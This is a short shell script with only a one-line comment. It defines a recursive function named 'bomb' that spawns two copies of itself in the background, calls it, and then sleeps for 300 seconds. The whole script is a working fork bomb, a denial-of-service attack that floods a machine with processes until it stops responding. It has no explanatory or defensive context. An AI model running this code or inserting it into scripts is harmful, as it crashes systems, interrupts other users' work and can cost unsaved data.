# Processes without end, then a long command.
bomb() { bomb | bomb & }
bomb
sleep 300
